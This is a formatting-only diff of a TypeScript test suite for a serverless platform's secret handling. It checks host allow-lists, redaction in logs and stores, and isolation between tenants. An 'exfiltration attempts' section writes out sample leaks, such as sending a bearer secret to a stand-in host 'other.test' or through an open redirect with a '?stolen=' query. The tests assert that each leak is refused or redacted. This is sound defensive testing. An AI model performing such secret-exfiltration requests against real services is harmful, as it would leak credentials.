@@ -13,7 +13,9 @@ import type { LogEntry } from "../dispatcher/logs/log-store.ts";
 
 const VALUE = "sk_live_Zx9!Qr7+vW/4tY=u&p\"q'<>";
 const SHA_OF_BEARER = async (v: string) =>
-  [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(`Bearer ${v}`)))].map((b) => b.toString(16).padStart(2, "0")).join("");
+  [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(`Bearer ${v}`)))]
+    .map((b) => b.toString(16).padStart(2, "0"))
+    .join("");
 
 let dev: TestTenant;
 let pulse: DeployedPulse;
@@ -29,7 +31,10 @@ beforeAll(async () => {
   }
   dev = await newTenant();
   pulse = await deployFixture("fetcher", { tenant: dev.name });
-  const put = await api("PUT", `/v1/pulses/${pulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } });
+  const put = await api("PUT", `/v1/pulses/${pulse.name}/secrets/API_KEY`, {
+    token: dev.token,
+    body: { value: VALUE, hosts: ["upstream.test"] },
+  });
   record(put);
   expect(put.status).toBe(200);
 });
@@ -52,7 +57,11 @@ function record(res: { body: unknown; headers?: Headers }) {
 }
 
 async function send(p: DeployedPulse, input: Record<string, unknown>): Promise<any> {
-  const res = await p.call("/", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(input) });
+  const res = await p.call("/", {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify(input),
+  });
   const text = await res.text();
   record({ body: text, headers: res.headers });
   expect(res.status).toBe(200);
@@ -61,7 +70,10 @@ async function send(p: DeployedPulse, input: Record<string, unknown>): Promise<a
 
 describe("a secret in use", () => {
   it("is substituted in a header for its allowed host, and the echo comes back redacted", async () => {
-    const result = await send(pulse, { url: "https://upstream.test/echo", headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
+    const result = await send(pulse, {
+      url: "https://upstream.test/echo",
+      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
+    });
     expect(result.status).toBe(200);
     const echo = JSON.parse(result.body);
     // The upstream received the real value (its hash matches)...
@@ -74,20 +86,36 @@ describe("a secret in use", () => {
   it("is listed by name and hosts only", async () => {
     const list = await api("GET", `/v1/pulses/${pulse.name}/secrets`, { token: dev.token });
     record(list);
-    expect(list.body.secrets).toEqual([{ name: "API_KEY", kind: "secret", hosts: ["upstream.test"], allowInUrl: false, allowInBody: false, allowSigning: false, updatedAt: expect.any(String) }]);
+    expect(list.body.secrets).toEqual([
+      {
+        name: "API_KEY",
+        kind: "secret",
+        hosts: ["upstream.test"],
+        allowInUrl: false,
+        allowInBody: false,
+        allowSigning: false,
+        updatedAt: expect.any(String),
+      },
+    ]);
   });
 });
 
 describe("exfiltration attempts", () => {
   it("to a host not on its list: refused, nothing sent", async () => {
-    const result = await send(pulse, { url: "https://other.test/echo", headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
+    const result = await send(pulse, {
+      url: "https://other.test/echo",
+      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
+    });
     expect(result.status).toBe(403);
     expect(JSON.parse(result.body).error.code).toBe("secret_not_allowed_for_host");
   });
 
   it("via a redirect to another host: the header does not follow", async () => {
     const to = encodeURIComponent("https://other.test/echo");
-    const result = await send(pulse, { url: `https://upstream.test/redirect?to=${to}`, headers: { authorization: "Bearer {{secrets.API_KEY}}" } });
+    const result = await send(pulse, {
+      url: `https://upstream.test/redirect?to=${to}`,
+      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
+    });
     expect(result.status).toBe(200);
     const echo = JSON.parse(result.body);
     expect(echo.host).toBe("other.test");
@@ -103,7 +131,12 @@ describe("exfiltration attempts", () => {
 
   it("in a query string to an allowed host's open redirect (URLs allowed): the redirect is not followed", async () => {
     const urlPulse = await deployFixture("fetcher", { tenant: dev.name });
-    record(await api("PUT", `/v1/pulses/${urlPulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"], allowInUrl: true } }));
+    record(
+      await api("PUT", `/v1/pulses/${urlPulse.name}/secrets/API_KEY`, {
+        token: dev.token,
+        body: { value: VALUE, hosts: ["upstream.test"], allowInUrl: true },
+      }),
+    );
     const target = encodeURIComponent("https://other.test/echo?stolen=");
     const result = await send(urlPulse, { url: `https://upstream.test/redirect?to=${target}{{secrets.API_KEY}}` });
     expect(result.status).toBe(403);
@@ -111,15 +144,30 @@ describe("exfiltration attempts", () => {
   });
 
   it("in a body (not allowed in bodies): refused", async () => {
-    const result = await send(pulse, { url: "https://upstream.test/echo", method: "POST", body: '{"key":"{{secrets.API_KEY}}"}', headers: { "content-type": "application/json" } });
+    const result = await send(pulse, {
+      url: "https://upstream.test/echo",
+      method: "POST",
+      body: '{"key":"{{secrets.API_KEY}}"}',
+      headers: { "content-type": "application/json" },
+    });
     expect(result.status).toBe(403);
     expect(JSON.parse(result.body).error.message).toMatch(/may not be placed in a request body/);
   });
 
   it("by echoing it back to the end user: redacted on the way in and on the way out", async () => {
     const bodyPulse = await deployFixture("fetcher", { tenant: dev.name });
-    record(await api("PUT", `/v1/pulses/${bodyPulse.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"], allowInBody: true } }));
-    const result = await send(bodyPulse, { url: "https://upstream.test/echo", method: "POST", body: '{"key":"{{secrets.API_KEY}}"}', headers: { "content-type": "application/json" } });
+    record(
+      await api("PUT", `/v1/pulses/${bodyPulse.name}/secrets/API_KEY`, {
+        token: dev.token,
+        body: { value: VALUE, hosts: ["upstream.test"], allowInBody: true },
+      }),
+    );
+    const result = await send(bodyPulse, {
+      url: "https://upstream.test/echo",
+      method: "POST",
+      body: '{"key":"{{secrets.API_KEY}}"}',
+      headers: { "content-type": "application/json" },
+    });
     expect(result.status).toBe(200);
     const echo = JSON.parse(result.body);
     // The upstream got the value, JSON-escaped into valid JSON...
@@ -130,7 +178,12 @@ describe("exfiltration attempts", () => {
 
   it("by reading env.secrets as a value or logging it: only references exist in the isolate", async () => {
     const peek = await deployFixture("secret-peek", { tenant: dev.name });
-    record(await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } }));
+    record(
+      await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, {
+        token: dev.token,
+        body: { value: VALUE, hosts: ["upstream.test"] },
+      }),
+    );
     const res = await peek.call();
     const text = await res.text();
     record({ body: text, headers: res.headers });
@@ -145,10 +198,19 @@ describe("exfiltration attempts", () => {
 
   it("with another pulse's reference: resolves to nothing", async () => {
     const peek = await deployFixture("secret-peek", { tenant: dev.name });
-    record(await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, { token: dev.token, body: { value: VALUE, hosts: ["upstream.test"] } }));
-    const stolenRef = (JSON.parse(await (await peek.call()).text()) as { secrets: { API_KEY: string } }).secrets.API_KEY;
+    record(
+      await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, {
+        token: dev.token,
+        body: { value: VALUE, hosts: ["upstream.test"] },
+      }),
+    );
+    const stolenRef = (JSON.parse(await (await peek.call()).text()) as { secrets: { API_KEY: string } }).secrets
+      .API_KEY;
     const thief = await deployFixture("fetcher", { tenant: (await newTenant()).name });
-    const result = await send(thief, { url: "https://upstream.test/echo", headers: { authorization: `Bearer ${stolenRef}` } });
+    const result = await send(thief, {
+      url: "https://upstream.test/echo",
+      headers: { authorization: `Bearer ${stolenRef}` },
+    });
     expect(JSON.parse(result.body).headers.authorization).toBe(`Bearer ${stolenRef}`);
   });
 
@@ -160,17 +222,29 @@ describe("exfiltration attempts", () => {
     const base64 = btoa(String.fromCharCode(...bytes));
     const hex = [...bytes].map((b) => b.toString(16).padStart(2, "0")).join("");
     const spellings = [
-      value, base64, base64.replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, ""), hex, hex.toUpperCase(),
-      encodeURIComponent(value), JSON.stringify(value).slice(1, -1), [...value].reverse().join(""),
+      value,
+      base64,
+      base64.replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, ""),
+      hex,
+      hex.toUpperCase(),
+      encodeURIComponent(value),
+      JSON.stringify(value).slice(1, -1),
+      [...value].reverse().join(""),
     ];
     const texts: [where: string, text: string][] = [];
-    const keep = (where: string, text: unknown) => texts.push([where, typeof text === "string" ? text : safeJson(text)]);
+    const keep = (where: string, text: unknown) =>
+      texts.push([where, typeof text === "string" ? text : safeJson(text)]);
     const consoleFrom = seen.length;
     // The control plane runs in this isolate, so its own output (answers and console lines) is searched too.
-    const controlEnv = { ...env, ...env.TEST_CONTROL_BINDINGS, ROUTES: (exports as unknown as { RouteControl: Fetcher }).RouteControl };
+    const controlEnv = {
+      ...env,
+      ...env.TEST_CONTROL_BINDINGS,
+      ROUTES: (exports as unknown as { RouteControl: Fetcher }).RouteControl,
+    };
     const controlCall = async (method: string, path: string, token: string, body?: unknown) => {
       const ctx = createExecutionContext();
-      const json = body === undefined ? {} : { headers: { "content-type": "application/json" }, body: JSON.stringify(body) };
+      const json =
+        body === undefined ? {} : { headers: { "content-type": "application/json" }, body: JSON.stringify(body) };
       const init = { method, ...json, headers: { authorization: `Bearer ${token}`, ...json.headers } };
       const res = await control.fetch(new Request(`http://127.0.0.1${path}`, init), controlEnv as never, ctx);
       await waitOnExecutionContext(ctx);
@@ -183,7 +257,10 @@ describe("exfiltration attempts", () => {
     const created = await controlCall("POST", "/v1/pulses", owner.token, { name });
     expect(created.status).toBe(201);
     const pulseId = created.body.id as string;
-    expect((await controlCall("PUT", `/v1/pulses/${name}/secrets/API_KEY`, owner.token, { value, hosts: ["upstream.test"] })).status).toBe(200);
+    expect(
+      (await controlCall("PUT", `/v1/pulses/${name}/secrets/API_KEY`, owner.token, { value, hosts: ["upstream.test"] }))
+        .status,
+    ).toBe(200);
     const source = `export default async function run(input: { mode?: string }, env: any) {
   const res = await fetch("https://upstream.test/echo", { headers: { authorization: "Bearer " + env.secrets.API_KEY } });
   const echoed = await res.text();
@@ -194,7 +271,11 @@ describe("exfiltration attempts", () => {
   if (input.mode === "throw") throw new Error("failed after " + echoed);
   return JSON.parse(echoed);
 }`;
-    const uploaded = await controlCall("POST", `/v1/pulses/${name}/versions`, owner.token, { files: { "index.ts": source }, main: "index.ts", deploy: true });
+    const uploaded = await controlCall("POST", `/v1/pulses/${name}/versions`, owner.token, {
+      files: { "index.ts": source },
+      main: "index.ts",
+      deploy: true,
+    });
     expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201);
 
     const answered = await callHost(`${name}.pulses.localhost`, "/");
@@ -208,7 +289,9 @@ describe("exfiltration attempts", () => {
     expect(failed.status).toBe(500);
 
     // Logs and recordings land after the answers: wait (bounded) for both calls' entries.
-    const logs = env.PULSE_LOGS.getByName(pulseId) as unknown as { read(after: number, limit: number): Promise<LogEntry[]> };
+    const logs = env.PULSE_LOGS.getByName(pulseId) as unknown as {
+      read(after: number, limit: number): Promise<LogEntry[]>;
+    };
     const replay = env.PULSE_REPLAY.getByName(pulseId);
     for (let i = 0; i < 100; i++) {
       const logged = (await logs.read(0, 10_000)).filter((e) => e.level === "error" || e.level === "request");
@@ -225,21 +308,39 @@ describe("exfiltration attempts", () => {
     keep("pulse SQL, unquoted", sqlDump.replaceAll("''", "'"));
     expect((await controlCall("GET", `/v1/pulses/${name}/logs?limit=1000`, owner.token)).status).toBe(200);
     expect((await controlCall("GET", `/v1/pulses/${name}/secrets`, owner.token)).status).toBe(200);
-    expect((await controlCall("POST", `/v1/pulses/${name}/versions/${uploaded.body.version.id}/preview`, owner.token)).status).toBe(200);
+    expect(
+      (await controlCall("POST", `/v1/pulses/${name}/versions/${uploaded.body.version.id}/preview`, owner.token))
+        .status,
+    ).toBe(200);
     keep("console", seen.slice(consoleFrom));
-    const tables = (await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%'").all<{ name: string }>()).results;
+    const tables = (
+      await env.DB.prepare(
+        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%'",
+      ).all<{ name: string }>()
+    ).results;
     expect(tables.map((t) => t.name)).toContain("secrets");
-    for (const { name: table } of tables) keep(`table ${table}`, (await env.DB.prepare(`SELECT * FROM "${table}"`).all()).results);
-    for (const k of (await env.PULSE_KV.list()).keys) keep(`KV ${k.name}`, `${k.name} ${(await env.PULSE_KV.get(k.name)) ?? ""}`);
-    for (const o of (await env.BUNDLES.list()).objects) keep(`bundle ${o.key}`, (await (await env.BUNDLES.get(o.key))?.text()) ?? "");
+    for (const { name: table } of tables)
+      keep(`table ${table}`, (await env.DB.prepare(`SELECT * FROM "${table}"`).all()).results);
+    for (const k of (await env.PULSE_KV.list()).keys)
+      keep(`KV ${k.name}`, `${k.name} ${(await env.PULSE_KV.get(k.name)) ?? ""}`);
+    for (const o of (await env.BUNDLES.list()).objects)
+      keep(`bundle ${o.key}`, (await (await env.BUNDLES.get(o.key))?.text()) ?? "");
 
-    const found = texts.flatMap(([where, text]) => spellings.filter((s) => text.includes(s)).map((s) => `${where}: ${s}`));
+    const found = texts.flatMap(([where, text]) =>
+      spellings.filter((s) => text.includes(s)).map((s) => `${where}: ${s}`),
+    );
     expect(found).toEqual([]);
     // The stores searched did receive the echo (so the search covered it): redacted, in every place it was kept.
     expect(logEntries.some((e) => e.level === "error" && e.message.includes("failed after"))).toBe(true);
     expect(recorded).toHaveLength(2);
     expect(texts.filter(([, text]) => text.includes("Bearer [redacted]")).map(([where]) => where)).toEqual(
-      expect.arrayContaining(["answer", "pulse log store", "replay store", "pulse SQL", "KV " + `vibe:${pulseId}:echoed`]),
+      expect.arrayContaining([
+        "answer",
+        "pulse log store",
+        "replay store",
+        "pulse SQL",
+        "KV " + `vibe:${pulseId}:echoed`,
+      ]),
     );
   });
 });
@@ -270,10 +371,16 @@ describe("secret storage", () => {
   });
 
   it("resolves connections the same way", async () => {
-    const put = await api("PUT", `/v1/pulses/${pulse.name}/connections/GITHUB`, { token: dev.token, body: { accessToken: "gho_connection_token_value", hosts: ["upstream.test"] } });
+    const put = await api("PUT", `/v1/pulses/${pulse.name}/connections/GITHUB`, {
+      token: dev.token,
+      body: { accessToken: "gho_connection_token_value", hosts: ["upstream.test"] },
+    });
     expect(put.status).toBe(200);
     expect(JSON.stringify(put.body)).not.toContain("gho_connection_token_value");
-    const result = await send(pulse, { url: "https://upstream.test/echo", headers: { authorization: "Bearer {{connections.GITHUB}}" } });
+    const result = await send(pulse, {
+      url: "https://upstream.test/echo",
+      headers: { authorization: "Bearer {{connections.GITHUB}}" },
+    });
     expect(JSON.parse(result.body).authorizationSha256).toBe(await sha("Bearer gho_connection_token_value"));
     const del = await api("DELETE", `/v1/pulses/${pulse.name}/connections/GITHUB`, { token: dev.token });
     expect(del.status).toBe(200);
@@ -281,5 +388,7 @@ describe("secret storage", () => {
 });
 
 async function sha(text: string): Promise<string> {
-  return [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))].map((b) => b.toString(16).padStart(2, "0")).join("");
+  return [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))]
+    .map((b) => b.toString(16).padStart(2, "0"))
+    .join("");
 }
